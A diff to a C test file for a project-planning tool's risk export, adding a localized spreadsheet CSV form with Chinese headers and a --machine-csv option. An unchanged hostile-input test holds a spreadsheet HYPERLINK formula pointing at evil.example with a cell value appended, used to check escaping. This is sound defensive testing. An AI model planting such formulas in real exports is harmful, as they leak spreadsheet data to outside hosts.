@@ -1,8 +1,10 @@
 /* test-export-risks.c — `export risks` as CSV, Markdown and HTML. */
 #include "config.h"
 
+#include <locale.h>
 #include <string.h>
 #include <glib/gstdio.h>
+#include <glib/gi18n-lib.h>
 
 #include "upg-export-risks.h"
 #include "upg-plan.h"
@@ -82,9 +84,64 @@ test_sample_csv (void)
   g_autofree char *golden = read_data ("risks-sample.csv");
 
   fixture_open_sample (&f);
-  csv = upg_export_risks_csv (f.project, NULL);
+  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_MACHINE);
   g_assert_cmpstr (csv, ==, sample_csv);
   g_assert_cmpstr (golden, ==, sample_csv);
+  fixture_close (&f);
+}
+
+/* The spreadsheet form (the default): a byte order mark, column names and
+ * values in the user's language. */
+static const char sample_csv_spreadsheet[] =
+  UPG_CSV_BOM "Title,Category,Likelihood,Impact,Score,Level,Residual Score,Owner,Status,Mitigation,Contingency\r\n"
+  "Backfill corrupts historic invoices,Data migration,2,5,10,High,5,Mei Lin,Open,"
+  "Backup with SHA-256 checksums; incremental backfill with row counts verified per batch.,"
+  "Restore from backup; verify checksums.\r\n"
+  "Gateway SDK slower under load,Performance,3,3,9,Medium,6,Jonas Berg,Open,"
+  "Load test at 2x peak before the canary.,Roll back to 4.1.7 within 10 minutes.\r\n"
+  "Support not briefed on new invoice layout,User experience,2,2,4,Low,,,Mitigated,"
+  "Briefing one week before.,\r\n";
+
+static const char sample_csv_zh_CN[] =
+  UPG_CSV_BOM "标题,类别,可能性,影响,分值,等级,剩余分值,负责人,状态,缓解措施,应急预案\r\n"
+  "Backfill corrupts historic invoices,数据迁移,2,5,10,高,5,Mei Lin,未解决,"
+  "Backup with SHA-256 checksums; incremental backfill with row counts verified per batch.,"
+  "Restore from backup; verify checksums.\r\n"
+  "Gateway SDK slower under load,性能,3,3,9,中,6,Jonas Berg,未解决,"
+  "Load test at 2x peak before the canary.,Roll back to 4.1.7 within 10 minutes.\r\n"
+  "Support not briefed on new invoice layout,用户体验,2,2,4,低,,,已缓解,"
+  "Briefing one week before.,\r\n";
+
+static void
+test_sample_csv_spreadsheet (void)
+{
+  Fixture f = { 0 };
+  UpgExportOptions options = { .format = "csv" };
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GBytes) bytes = NULL;
+  g_autofree char *csv = NULL;
+
+  fixture_open_sample (&f);
+  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_SPREADSHEET);
+  g_assert_cmpstr (csv, ==, sample_csv_spreadsheet);
+  /* The export table's default form is the spreadsheet's. */
+  bytes = upg_export_run (f.store, "risks", upg_record_get_id (UPG_RECORD (f.project)), &options, &error);
+  g_assert_no_error (error);
+  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
+                   sample_csv_spreadsheet, strlen (sample_csv_spreadsheet));
+
+  /* In Chinese, with the translations as built (LC_ALL is C.UTF-8 in
+   * the tests' environment: gettext reads LANGUAGE in it). */
+  setlocale (LC_ALL, "");
+  bindtextdomain (GETTEXT_PACKAGE, UPG_TEST_LOCALEDIR);
+  bind_textdomain_codeset (GETTEXT_PACKAGE, "UTF-8");
+  g_setenv ("LANGUAGE", "zh_CN", TRUE);
+  g_clear_pointer (&csv, g_free);
+  setlocale (LC_ALL, "");   /* glibc forgets the translations it looked up */
+  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_SPREADSHEET);
+  g_setenv ("LANGUAGE", "en", TRUE);
+  setlocale (LC_ALL, "");
+  g_assert_cmpstr (csv, ==, sample_csv_zh_CN);
   fixture_close (&f);
 }
 
@@ -155,7 +212,7 @@ test_thresholds (void)
   g_autofree char *csv = NULL;
 
   fixture_open_sample (&f);
-  csv = upg_export_risks_csv (f.project, &t);
+  csv = upg_export_risks_csv (f.project, &t, UPG_CSV_MACHINE);
   /* 10 → critical, 9 → critical, 4 → medium; residual scores are not levelled. */
   g_assert_nonnull (strstr (csv, "\r\nBackfill corrupts historic invoices,data_migration,2,5,10,critical,5,"));
   g_assert_nonnull (strstr (csv, "\r\nGateway SDK slower under load,performance,3,3,9,critical,6,"));
@@ -220,7 +277,7 @@ test_hostile_csv (void)
   g_autofree char *csv = NULL;
 
   fixture_open (&f, json);
-  csv = upg_export_risks_csv (f.project, NULL);
+  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_MACHINE);
   g_assert_cmpstr (csv, ==,
     "title,category,likelihood,impact,score,level,residual_score,owner,status,mitigation,contingency\r\n"
     "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",compatibility,5,5,25,critical,,"
@@ -313,7 +370,7 @@ test_empty (void)
       upg_store_delete (f.store, risk, NULL, &error);
       g_assert_no_error (error);
     }
-  csv = upg_export_risks_csv (f.project, NULL);
+  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_MACHINE);
   g_assert_cmpstr (csv, ==, "title,category,likelihood,impact,score,level,residual_score,"
                             "owner,status,mitigation,contingency\r\n");
   md = upg_export_risks_md (f.project, NULL);
@@ -331,7 +388,7 @@ test_export_run (void)
   Fixture f = { 0 };
   g_autoptr(GError) error = NULL;
   g_autoptr(GBytes) bytes = NULL;
-  UpgExportOptions options = { .format = "csv" };
+  UpgExportOptions options = { .format = "csv", .csv_form = UPG_CSV_MACHINE };
   const UpgExportKind *kind = upg_export_lookup ("risks");
 
   g_assert_nonnull (kind);
@@ -383,9 +440,16 @@ test_cli (void)
   g_clear_object (&f.project);
   g_clear_object (&f.store);
 
-  /* Default format is CSV, to stdout. */
+  /* Default format is CSV for spreadsheets, to stdout; --machine-csv gives
+   * the plan format's words. */
   status = upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id, NULL);
   g_test_message ("stderr: %s", err);
+  g_assert_cmpint (status, ==, 0);
+  g_assert_cmpstr (out, ==, sample_csv_spreadsheet);
+  g_assert_cmpstr (err, ==, "");
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+  status = upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id, "--machine-csv", NULL);
   g_assert_cmpint (status, ==, 0);
   g_assert_cmpstr (out, ==, sample_csv);
   g_assert_cmpstr (err, ==, "");
@@ -410,6 +474,13 @@ test_cli (void)
   g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id,
                                      "--format", "pdf", "-o", missing_path, NULL), ==, 2);
   g_assert_nonnull (strstr (err, "csv, md, html"));
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+  g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id,
+                                     "--format", "html", "--machine-csv", "-o", missing_path, NULL), ==, 2);
+  g_assert_cmpstr (out, ==, "");
+  g_assert_cmpstr (err, ==, "upgrade-planner: --machine-csv is only for CSV\nTry “upgrade-planner --help” for more information.\n");
+  g_assert_false (g_file_test (missing_path, G_FILE_TEST_EXISTS));
   g_clear_pointer (&out, g_free);
   g_clear_pointer (&err, g_free);
   g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--format", "csv",
@@ -441,6 +512,7 @@ main (int argc, char **argv)
   upg_test_init (&argc, &argv);
 
   g_test_add_func ("/export-risks/sample/csv", test_sample_csv);
+  g_test_add_func ("/export-risks/sample/csv-spreadsheet", test_sample_csv_spreadsheet);
   g_test_add_func ("/export-risks/sample/md", test_sample_md);
   g_test_add_func ("/export-risks/sample/html", test_sample_html);
   g_test_add_func ("/export-risks/thresholds", test_thresholds);
